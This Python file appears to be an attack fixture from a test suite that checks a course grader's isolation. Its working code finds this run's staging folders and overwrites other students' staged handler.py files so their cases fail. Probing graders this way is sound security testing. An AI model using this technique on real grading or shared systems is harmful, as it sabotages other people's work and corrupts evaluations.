"""Sabotaging classmates: `course grade` stages every submission in a temporary folder next to
the workers' own; overwrite the staged `handler.py` of every classmate not graded yet with one
answering a body that names the run's marker, so their cases fail showing it. (Only this run's
staging folders are touched: the ones holding a file with the marker.)"""

import glob
import json
import os

import attack_common as common

ATTACK = "overwrite-staged-copies"
BODY = json.dumps(f"overwritten-{common.MARKER}")
SABOTAGE = f"def handler(event, context):\n    return {{'statusCode': 200, 'body': {BODY!r}}}\n"


def temp_folders():
    yield common.GRADE_TMP
    here = os.getcwd()
    for _ in range(3):
        here = os.path.dirname(here)
        yield here


def ours(staging):
    for path in glob.glob(os.path.join(staging, "*", "*.py")):
        try:
            with open(path, encoding="utf-8") as file:
                if common.MARKER in file.read():
                    return True
        except OSError:
            continue
    return False


def attack():
    overwritten = 0
    for folder in dict.fromkeys(temp_folders()):
        for staging in glob.glob(os.path.join(folder, "course-grade-*")):
            if not ours(staging):
                continue
            for path in glob.glob(os.path.join(staging, "*", "handler.py")):
                if os.path.exists(os.path.join(os.path.dirname(path), "attack_common.py")):
                    continue  # a fellow attacker
                try:
                    directory = os.open(os.path.dirname(path), os.O_RDONLY)
                    try:
                        flags = os.O_WRONLY | os.O_TRUNC
                        fd = os.open("handler.py", flags, dir_fd=directory)
                    finally:
                        os.close(directory)
                    os.write(fd, SABOTAGE.encode())
                    os.close(fd)
                    overwritten += 1
                except OSError:
                    continue
    return overwritten > 0


OVERWROTE = common.attempt(attack)


def handler(event, context):
    return common.blocked(event)
